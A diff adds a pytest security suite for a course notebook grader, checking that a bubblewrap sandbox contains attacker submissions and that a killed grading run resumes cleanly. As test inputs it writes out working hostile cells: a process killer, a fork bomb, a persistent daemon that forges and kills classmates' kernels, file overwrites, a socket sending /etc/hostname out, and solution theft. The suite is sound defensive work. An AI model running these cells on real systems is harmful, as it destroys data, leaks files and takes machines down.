@@ -1,0 +1,328 @@
+"""The isolation suite: attacks on the machine, the grader and the classmates, each built
+from the released chapter 3 and graded by ``python -m mlpcourse grade`` (a process of its
+own, as an instructor runs it) in a class beside honest submissions. Each must be
+harmless: the run finishes with exit 0, every honest student's verdicts equal those of
+the same class graded without the attackers, no file outside the gradebook folder
+changes, nothing of an attacker is read or received, and no process of the run is left.
+
+And the crash test: the grader killed with SIGKILL in the middle of a class, the same
+command run again: no notebook lost, none graded twice, and the gradebook equal to that
+of an uninterrupted run."""
+
+import csv
+import hashlib
+import json
+import os
+import signal
+import socket
+import sqlite3
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell
+
+from mlpcourse import course
+from mlpcourse.grade import course_version
+from mlpcourse.kernel import sandbox_problem
+from mlpcourse.samples import submission
+
+# CI installs bubblewrap (.ci/run): there a missing sandbox fails the suite instead of skipping it
+pytestmark = pytest.mark.skipif(bool(sandbox_problem()) and not os.environ.get("CI"),
+                                reason=f"no sandbox here: {sandbox_problem()}")
+
+CH = "03_activation_functions"
+LABELS = course.chapter(CH).checked
+MARKER = "mlpcourse-attack-" + os.urandom(4).hex()  # in the argv of every process an attacker leaves behind
+LIMITS = ["--timeout", "10", "--total-timeout", "90", "--memory", "2", "--seed", "11", "--no-progress"]
+HONEST = {"honest-solved": "solved", "honest-wrong": "wrong", "honest-untouched": "untouched",
+          "honest-solved-2": "solved"}
+
+# a process that outlives its cell (fork, setsid, fork, exec) and, for a minute, tries to reach the
+# other kernels: it forges their answers' files and kills every other kernel it can see
+DAEMON = """
+import glob, json, os, sys, time
+kernel, tmp = int(sys.argv[1]), sys.argv[2]
+end = time.time() + 60
+while time.time() < end:
+    for path in glob.glob("/tmp/mlpcourse-kernel-*/*.answer.json") + glob.glob(tmp + "/mlpcourse-kernel-*/*.json"):
+        try:
+            with open(path, "w") as f:
+                json.dump({"kind": "unavailable", "raised": ["Sabotaged", "by a classmate"]}, f)
+        except OSError:
+            pass
+    for pid in os.listdir("/proc"):
+        if pid.isdigit() and int(pid) not in (os.getpid(), kernel):
+            try:
+                if b"ipykernel" in open(f"/proc/{pid}/cmdline", "rb").read():
+                    os.kill(int(pid), 9)
+            except OSError:
+                pass
+    time.sleep(0.05)
+time.sleep(3600)
+"""
+
+
+def _attacks(paths, port):
+    """name -> code of the cell an attacker puts at the top of the released chapter 3."""
+    targets = [str(paths["home"] / f".{MARKER}"), str(paths["cwd"] / MARKER), str(paths["grades"] / MARKER),
+               str(paths["instructor"] / MARKER)]
+    book = str(course.book_dir() / f"{CH}.ipynb")
+    return {
+        "kills its parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
+                            "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
+                            "    if int(pid) not in (os.getpid(), 1):\n"
+                            "        try:\n            os.kill(int(pid), signal.SIGKILL)\n"
+                            "        except OSError:\n            pass",
+        "writes outside its folder": f"import pathlib\nfor p in {targets!r}:\n    try:\n"
+                                     "        pathlib.Path(p).write_text('echo pwned')\n    except OSError:\n"
+                                     "        pass\n"
+                                     "import pwd, os\nhome = pwd.getpwuid(os.getuid()).pw_dir\n"
+                                     f"open(os.path.join(home, '.{MARKER}-bashrc'), 'w').write('echo pwned')",
+        "overwrites the class": f"import pathlib, shutil\nfor p in pathlib.Path({str(paths['class'])!r}).rglob("
+                                "'*.ipynb'):\n    try:\n        p.write_text('{}')\n    except OSError:\n        pass\n"
+                                f"for p in pathlib.Path({str(paths['grades'])!r}).glob('*'):\n    try:\n"
+                                "        p.write_bytes(b'')\n    except OSError:\n        pass",
+        "leaves a daemon": "import os, sys\nkernel = os.getpid()\nif os.fork() == 0:\n    os.setsid()\n"
+                           "    if os.fork() == 0:\n"
+                           f"        os.execv(sys.executable, [sys.executable, '-c', {DAEMON!r}, str(kernel), "
+                           f"{str(paths['tmp'])!r}, {MARKER!r}])\n    os._exit(0)\nimport time\ntime.sleep(2)",
+        "fork bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
+        "opens a connection": "import socket\ntry:\n"
+                              f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
+                              "    s.sendall(b'stolen: ' + open('/etc/hostname', 'rb').read())\nexcept OSError:\n"
+                              "    pass",
+        "reads the reference": "import json, re\n"
+                               f"nb = json.load(open({book!r}))\n"
+                               "src = [''.join(c['source']) for c in nb['cells'] if 'def softsign_derivative' in "
+                               "''.join(c['source']) and 'BEGIN SOLUTION' in ''.join(c['source'])][0]\n"
+                               "exec(src)",
+    }
+
+
+def _tree(root, skip):
+    """{path: sha256} of every file under ``root``, folders in ``skip`` left out."""
+    out = {}
+    for path in sorted(Path(root).rglob("*")):
+        if path.is_file() and not any(s == path or s in path.parents for s in skip):
+            out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return out
+
+
+def _processes_mentioning(*needles):
+    found = []
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            try:
+                cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+            except OSError:
+                continue
+            if any(n in cmdline for n in needles) and int(pid) != os.getpid():
+                found.append((int(pid), cmdline[:200]))
+    return found
+
+
+def _grade(folder, out, tmp, *extra, wait=True):
+    """``python -m mlpcourse grade`` in a process of its own, its temporary folders (the kernels') in ``tmp``."""
+    env = {**os.environ, "TMPDIR": str(tmp)}
+    cmd = [sys.executable, "-m", "mlpcourse", "grade", str(folder), "--out", str(out), "--jobs", "2",
+           "--chapters", CH, *LIMITS, *extra]
+    if not wait:
+        return subprocess.Popen(cmd, env=env, cwd=tmp.parent / "cwd", stdout=subprocess.DEVNULL,
+                                stderr=subprocess.DEVNULL)
+    return subprocess.run(cmd, env=env, cwd=tmp.parent / "cwd", capture_output=True, text=True, timeout=900)
+
+
+def _rows(out):
+    with open(Path(out) / "grades.csv", newline="") as f:
+        return {(r["student"], r["exercise"]): (r["status"], r["detail"]) for r in csv.DictReader(f)}
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 that records whatever reaches it."""
+
+    def __init__(self):
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.sock.settimeout(0.2)
+        self.port, self.received, self.done = self.sock.getsockname()[1], [], threading.Event()
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while not self.done.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(2)
+                try:
+                    self.received.append(conn.recv(1000) or b"(connected)")
+                except OSError:
+                    self.received.append(b"(connected)")
+
+    def close(self):
+        self.done.set()
+        self.thread.join()
+        self.sock.close()
+
+
+def _write_class(folder, notebooks):
+    for student, nb in notebooks.items():
+        (folder / student / "homework").mkdir(parents=True)
+        nbformat.write(nb, folder / student / "homework" / f"{CH}.ipynb")
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    """The class with every attacker beside the honest students, and the honest students alone, graded."""
+    root = tmp_path_factory.mktemp("isolation")
+    paths = {name: root / name for name in ("class", "alone", "grades", "grades-alone", "cwd", "tmp", "instructor")}
+    for name in ("cwd", "tmp", "instructor"):
+        paths[name].mkdir()
+    (paths["instructor"] / "secret.txt").write_text("the exam's answers")
+    paths["home"] = Path.home()
+    honest = {student: submission(CH, kind) for student, kind in HONEST.items()}
+    listener = Listener()
+    attackers, names = {}, {}
+    for k, (name, code) in enumerate(_attacks(paths, listener.port).items()):
+        nb = submission(CH, "untouched")
+        nb.cells.insert(1, new_code_cell(code))
+        attackers[f"attacker{k}"] = nb
+        names[f"attacker{k}"] = name
+    _write_class(paths["class"], {**attackers, **honest})
+    _write_class(paths["alone"], honest)
+    before = _tree(root, skip=[paths["grades"], paths["grades-alone"], paths["tmp"]])
+    fingerprint = course_version()[0]
+    try:
+        result = _grade(paths["class"], paths["grades"], paths["tmp"])
+        time.sleep(1)  # the kernels' namespaces are torn down as their bwrap ends
+        left = _processes_mentioning(MARKER, str(paths["tmp"]))
+        alone = _grade(paths["alone"], paths["grades-alone"], paths["tmp"])
+    finally:
+        listener.close()
+    yield {"root": root, "paths": paths, "names": names, "result": result, "alone": alone, "left": left,
+           "before": before, "after": _tree(root, skip=[paths["grades"], paths["grades-alone"], paths["tmp"]]),
+           "fingerprint": (fingerprint, course_version()[0]), "received": listener.received}
+    for pid, _ in _processes_mentioning(MARKER):  # only if a test below failed
+        os.kill(pid, signal.SIGKILL)
+    for path in Path.home().glob(f".{MARKER}*"):
+        path.unlink()
+
+
+def test_the_run_finishes_and_says_it_used_the_sandbox(attacked):
+    result = attacked["result"]
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "isolation: bubblewrap sandbox" in result.stdout.splitlines()[-1]
+    assert "bubblewrap sandbox" in (attacked["paths"]["grades"] / "report.html").read_text()
+    db = sqlite3.connect(attacked["paths"]["grades"] / "gradebook.db")
+    assert db.execute("SELECT isolation, outcome FROM runs").fetchall() == [("bubblewrap", "finished")]
+    assert {r[0] for r in db.execute("SELECT isolation FROM submissions")} == {"bubblewrap"}
+
+
+def test_honest_verdicts_equal_those_of_the_class_without_attackers(attacked):
+    assert attacked["alone"].returncode == 0, attacked["alone"].stderr
+    rows, alone = _rows(attacked["paths"]["grades"]), _rows(attacked["paths"]["grades-alone"])
+    honest = {key: value for key, value in rows.items() if key[0] in HONEST}
+    assert honest == alone
+    assert {status for status, _ in alone.values()} >= {"passed", "failed", "not attempted"}
+
+
+def test_no_attacker_passes_anything(attacked):
+    rows = _rows(attacked["paths"]["grades"])
+    for student, name in attacked["names"].items():
+        for label in LABELS:
+            assert rows[(student, label)][0] not in ("passed", "flagged"), (name, label, rows[(student, label)])
+    reader = next(s for s, n in attacked["names"].items() if n == "reads the reference")
+    status, detail = rows[(reader, LABELS[0])]
+    assert status == "not attempted", (status, detail)  # its cell failed: the book is not there to read
+
+
+def test_no_file_outside_the_gradebook_changed(attacked):
+    assert attacked["before"] == attacked["after"]
+    assert attacked["fingerprint"][0] == attacked["fingerprint"][1]  # the course's own files
+    assert not list(Path.home().glob(f".{MARKER}*"))
+    grades = attacked["paths"]["grades"]
+    assert not (grades / MARKER).exists()
+    assert sqlite3.connect(grades / "gradebook.db").execute("SELECT count(*) FROM submissions").fetchone()[0] == 11
+
+
+def test_nothing_reached_the_network(attacked):
+    assert attacked["received"] == []
+
+
+def test_no_process_of_the_run_is_left(attacked):
+    assert attacked["left"] == []
+
+
+def test_a_fork_bomb_costs_only_its_own_exercises(attacked):
+    rows = _rows(attacked["paths"]["grades"])
+    bomber = next(s for s, n in attacked["names"].items() if n == "fork bomb")
+    assert {rows[(bomber, label)][0] for label in LABELS} <= {"timed out", "error"}
+
+
+# the crash test ---------------------------------------------------------------------------------
+
+
+def _submissions(db_path):
+    db = sqlite3.connect(db_path)
+    try:
+        return db.execute("SELECT student, chapter, digest FROM submissions").fetchall()
+    finally:
+        db.close()
+
+
+def test_a_grader_killed_mid_class_resumes_without_losing_or_repeating_a_notebook(attacked):
+    paths, tmp = attacked["paths"], attacked["paths"]["tmp"]
+    out = attacked["root"] / "grades-crash"
+    db = out / "gradebook.db"
+    run = _grade(paths["alone"], out, tmp, wait=False)
+    deadline = time.monotonic() + 300
+    while time.monotonic() < deadline and run.poll() is None:
+        if db.exists() and len(_submissions(db)) >= 1:
+            break
+        time.sleep(0.2)
+    assert run.poll() is None, "the run ended before it could be killed"
+    run.send_signal(signal.SIGKILL)
+    run.wait()
+    kept = _submissions(db)
+    assert 1 <= len(kept) < len(HONEST)
+    time.sleep(1)
+    assert _processes_mentioning(str(tmp)) == []  # its kernels died with it
+    again = _grade(paths["alone"], out, tmp)
+    assert again.returncode == 0, again.stderr
+    assert f"took {len(kept)} from the gradebook" in again.stdout
+    every = _submissions(db)
+    assert sorted((s, c) for s, c, _ in every) == sorted((s, CH) for s in HONEST)  # each once, none lost
+    assert _rows(out) == _rows(paths["grades-alone"])
+    outcomes = [r[0] for r in sqlite3.connect(db).execute("SELECT outcome FROM runs ORDER BY id")]
+    assert outcomes == ["running", "finished"]  # the killed run could not say how it ended; the next did
+
+
+def test_without_bubblewrap_grade_refuses_and_names_the_package(tmp_path):
+    (tmp_path / "cwd").mkdir()
+    env = {"PATH": str(Path(sys.executable).parent), "HOME": str(tmp_path)}
+    (tmp_path / "class" / "s1").mkdir(parents=True)
+    nbformat.write(submission(CH, "untouched"), tmp_path / "class" / "s1" / f"{CH}.ipynb")
+    result = subprocess.run([sys.executable, "-m", "mlpcourse", "grade", str(tmp_path / "class"), "--out",
+                             str(tmp_path / "g")], env=env, capture_output=True, text=True, timeout=300)
+    assert result.returncode == 2
+    assert "bubblewrap is not installed" in result.stderr and "--no-sandbox" in result.stderr
+    assert not (tmp_path / "g").exists()
+    checked = subprocess.run([sys.executable, "-m", "mlpcourse", "check", str(tmp_path / "class" / "s1" / f"{CH}.ipynb"),
+                              "--timeout", "30"], env=env, capture_output=True, text=True, timeout=300)
+    assert "note: kernels run without the sandbox: bubblewrap is not installed" in checked.stdout
+    assert "0 passed, 0 failed, 3 not attempted" in checked.stdout, checked.stdout + checked.stderr
+
+
+def test_grade_records_each_run(attacked):
+    db = sqlite3.connect(attacked["paths"]["grades"] / "gradebook.db")
+    (started, ended, commit, seed, limits, jobs, graded, reused), = db.execute(
+        "SELECT started, ended, commit_id, seed, limits, jobs, graded, reused FROM runs").fetchall()
+    assert started <= ended and seed == 11 and jobs == 2 and graded == 11 and reused == 0
+    assert json.loads(limits) == {"cell": 10.0, "total": 90.0, "memory": 2.0}
+    assert commit
